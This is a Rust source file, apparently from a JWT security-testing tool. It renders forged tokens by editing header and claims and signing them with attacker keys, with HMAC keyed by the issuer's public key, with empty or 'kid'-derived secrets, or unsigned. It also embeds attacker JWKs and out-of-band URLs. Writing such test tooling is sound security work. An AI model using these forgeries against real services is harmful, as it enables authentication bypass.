//! Rendering a draft into the bytes sent: the edited header and claims, the encoding and
//! structure changes, the signature by whichever key the draft names (with its changes), and the
//! credential values as the target's placement carries them.

use super::edit::{DeliveryOp, Draft, Edit, Json, MemberOp, Part, Signer, TOKEN_MARK};
use super::json_literal::{exponent, q};
use super::material::{Material, Rendered, Shape};
use super::rewrite::{encoding, json_op, sig_edits, structure};
use crate::algorithm::Algorithm;
use crate::base64url;
use crate::dangerous::forge::encodings::Encoding;
use crate::dangerous::forge::raw_json::RawObject;
use crate::deployment::oob;
use crate::sign::SigningKey;
use serde_json::{Map, Value};

/// Stands for the signer's JWK while a header is being edited.
const SIGNER_JWK_MARK: &str = "\"authprobe:signer-jwk\"";

impl Material {
    /// Renders a draft at `now`. `nonce` makes out-of-band URLs unique to this rendering.
    pub fn render(&self, draft: &Draft, now: i64, nonce: u64) -> Rendered {
        let origin = draft.edits.iter().rev().find_map(|e| match e {
            Edit::Origin(op) => Some(self.origin_value(op)),
            _ => None,
        });
        if draft.edits.contains(&Edit::Preflight) {
            return Rendered {
                token: String::new(),
                values: Vec::new(),
                oob_paths: Vec::new(),
                randomized: false,
                origin,
                preflight: true,
            };
        }
        let mut oob_paths = Vec::new();
        let mut randomized = false;
        let literal = draft.edits.iter().rev().find_map(|e| match e {
            Edit::Literal(t) => Some(t.clone()),
            _ => None,
        });
        let mut token = match literal {
            Some(t) => t,
            None => self.render_jws(draft, now, nonce, &mut oob_paths, &mut randomized),
        };
        for e in &draft.edits {
            if let Edit::Structure(op) = e {
                token = structure(op, &token);
            }
        }
        let values = self.deliver(draft, &token);
        Rendered {
            token,
            values,
            oob_paths,
            randomized,
            origin,
            preflight: false,
        }
    }

    fn render_jws(
        &self,
        draft: &Draft,
        now: i64,
        nonce: u64,
        oob_paths: &mut Vec<String>,
        randomized: &mut bool,
    ) -> String {
        let mut header = self.base_header.clone();
        let mut payload = self.base_payload.clone();
        let mut resolve = |v: &Json| -> String {
            match v {
                Json::Raw(t) => t.clone(),
                Json::Rel(o) => (now + o).to_string(),
                Json::RelFrac(o, f) => format!("{}{f}", now + o),
                Json::RelString(o) => format!("\"{}\"", now + o),
                Json::RelExp(o) => exponent(now + o),
                Json::SignerJwk => SIGNER_JWK_MARK.to_owned(),
                Json::AttackerCertChain => match &self.attacker_cert_b64 {
                    Some(c) => format!("[{}]", q(c)),
                    None => "[]".into(),
                },
                Json::Oob(name) => {
                    let path = oob::nonce_path(nonce);
                    let url = format!("{}{path}{name}", self.oob_base.trim_end_matches('/'));
                    oob_paths.push(path);
                    serde_json::to_string(&url).unwrap_or_default()
                }
            }
        };
        for e in &draft.edits {
            let text = match e {
                Edit::Member { part, .. } | Edit::Json { part, .. } => match part {
                    Part::Header => &mut header,
                    _ => &mut payload,
                },
                _ => continue,
            };
            match e {
                Edit::Member { name, op, .. } => {
                    let Ok(mut obj) = RawObject::new(text.clone()) else {
                        continue;
                    };
                    match op {
                        MemberOp::Set(v) => {
                            obj.set(name, &resolve(v));
                        }
                        MemberOp::Remove => {
                            obj.remove(name);
                        }
                        MemberOp::Duplicate(v) => {
                            obj.append(name, &resolve(v));
                        }
                        MemberOp::Prepend(v) => {
                            obj.prepend(name, &resolve(v));
                        }
                    }
                    *text = obj.into_string();
                }
                Edit::Json { op, .. } => *text = json_op(op, text),
                _ => {}
            }
        }

        // Who signs, under which algorithm (read from the header as edited).
        let header_value: Option<Value> = serde_json::from_str(&header).ok();
        let header_str = |name: &str| {
            header_value
                .as_ref()
                .and_then(|h| h.get(name))
                .and_then(Value::as_str)
                .map(str::to_owned)
        };
        let header_alg = header_str("alg").and_then(|a| Algorithm::from_name(&a));
        let signer = draft.edits.iter().rev().find_map(|e| match e {
            Edit::Sign(s) => Some(*s),
            _ => None,
        });
        let key = signer.and_then(|s| self.signing_key(s, header_alg, header_str("kid")));
        if header.contains(SIGNER_JWK_MARK) {
            let jwk = match &key {
                Some((k, _)) => public_jwk_text(k.get()),
                None => public_jwk_text(&self.attacker.ed25519),
            };
            header = header.replace(SIGNER_JWK_MARK, &jwk);
        }

        let mut h = if header == self.base_header {
            self.base.header_b64().to_owned()
        } else {
            base64url::encode(header.as_bytes())
        };
        let mut p = if payload == self.base_payload {
            self.base.payload_b64().to_owned()
        } else {
            base64url::encode(payload.as_bytes())
        };
        for e in &draft.edits {
            match e {
                Edit::Segment {
                    part: Part::Header,
                    text,
                } => h = text.clone(),
                Edit::Segment {
                    part: Part::Payload,
                    text,
                } => p = text.clone(),
                Edit::Encoding {
                    part: Part::Header,
                    op,
                } => h = encoding(op, &h),
                Edit::Encoding {
                    part: Part::Payload,
                    op,
                } => p = encoding(op, &p),
                _ => {}
            }
        }

        let sig_text = draft.edits.iter().rev().find_map(|e| match e {
            Edit::SigText(t) => Some(t.clone()),
            _ => None,
        });
        let mut s = match (signer, &key, sig_text) {
            (Some(Signer::Unsigned), _, _) => String::new(),
            (Some(_), Some((k, alg)), _) => {
                *randomized = matches!(
                    alg,
                    Algorithm::ES256
                        | Algorithm::ES384
                        | Algorithm::ES512
                        | Algorithm::PS256
                        | Algorithm::PS384
                        | Algorithm::PS512
                );
                let input = format!("{h}.{p}");
                let mut sig = k.get().sign(*alg, input.as_bytes()).unwrap_or_default();
                sig_edits(draft, &mut sig);
                base64url::encode(sig)
            }
            (_, _, Some(text)) => text,
            _ => {
                let mut sig = self.base.signature().to_vec();
                sig_edits(draft, &mut sig);
                if sig == self.base.signature() {
                    self.base.signature_b64().to_owned()
                } else {
                    base64url::encode(sig)
                }
            }
        };
        for e in &draft.edits {
            if let Edit::Encoding {
                part: Part::Signature,
                op,
            } = e
            {
                s = encoding(op, &s);
            }
        }
        format!("{h}.{p}.{s}")
    }

    fn signing_key(
        &self,
        signer: Signer,
        header_alg: Option<Algorithm>,
        kid: Option<String>,
    ) -> Option<(KeyRef<'_>, Algorithm)> {
        let hs = header_alg
            .filter(|a| a.is_symmetric())
            .unwrap_or(Algorithm::HS256);
        Some(match signer {
            Signer::Issuer => {
                let key = self.issuer_key.as_ref()?;
                let alg = header_alg
                    .filter(|a| a.key_family() == key.family())
                    .unwrap_or(self.base_alg);
                (KeyRef::Borrowed(key), alg)
            }
            Signer::Attacker => {
                let alg = header_alg.unwrap_or(self.base_alg);
                (KeyRef::Borrowed(self.attacker.for_alg(alg)), alg)
            }
            Signer::HmacPublicKey(e) => {
                let (parts, jwk) = (self.issuer_parts.as_ref()?, self.issuer_jwk.as_ref()?);
                let secret = parts
                    .encode(e, jwk)
                    .or_else(|| parts.encode(Encoding::RawBytes, jwk))?;
                (KeyRef::Owned(SigningKey::hmac(&secret)), hs)
            }
            Signer::HmacEmpty => (KeyRef::Owned(SigningKey::hmac(b"")), hs),
            Signer::HmacAttacker => (KeyRef::Borrowed(&self.attacker.hmac), hs),
            Signer::HmacKid => (
                KeyRef::Owned(SigningKey::hmac(kid.unwrap_or_default().as_bytes())),
                hs,
            ),
            Signer::Unsigned => return None,
        })
    }

    fn deliver(&self, draft: &Draft, token: &str) -> Vec<String> {
        match &self.shape {
            Shape::Raw => vec![token.to_owned()],
            Shape::Header { scheme } if scheme.is_empty() => vec![token.to_owned()],
            Shape::Header { scheme } => vec![format!("{scheme} {token}")],
            Shape::Bearer => {
                let op = draft.edits.iter().rev().find_map(|e| match e {
                    Edit::Delivery(op) => Some(op),
                    _ => None,
                });
                let base = self.base.as_str();
                match op {
                    None => vec![format!("Bearer {token}")],
                    Some(op) => match op {
                        DeliveryOp::LowerScheme => vec![format!("bearer {token}")],
                        DeliveryOp::UpperScheme => vec![format!("BEARER {token}")],
                        DeliveryOp::DoubleSpace => vec![format!("Bearer  {token}")],
                        DeliveryOp::Tab => vec![format!("Bearer\t{token}")],
                        DeliveryOp::NoScheme => vec![token.to_owned()],
                        DeliveryOp::BasicScheme => vec![format!("Basic {token}")],
                        DeliveryOp::Twice => {
                            vec![format!("Bearer {token}"), format!("Bearer {token}")]
                        }
                        DeliveryOp::WithBase => {
                            vec![format!("Bearer {base}"), format!("Bearer {token}")]
                        }
                        DeliveryOp::TrailingComma => vec![format!("Bearer {token},")],
                        DeliveryOp::Values(values) => values
                            .iter()
                            .map(|v| v.replace(TOKEN_MARK, token))
                            .collect(),
                    },
                }
            }
        }
    }
}

/// A signing key that is the material's or made for one rendering.
enum KeyRef<'a> {
    Borrowed(&'a SigningKey),
    Owned(SigningKey),
}

impl KeyRef<'_> {
    fn get(&self) -> &SigningKey {
        match self {
            KeyRef::Borrowed(k) => k,
            KeyRef::Owned(k) => k,
        }
    }
}

pub(super) fn public_jwk_text(key: &SigningKey) -> String {
    let jwk = match key {
        SigningKey::Hmac(secret) => {
            let mut m = Map::new();
            m.insert("kty".into(), "oct".into());
            m.insert("k".into(), base64url::encode(secret).into());
            m
        }
        other => other.public_jwk(None, None),
    };
    Value::Object(jwk).to_string()
}
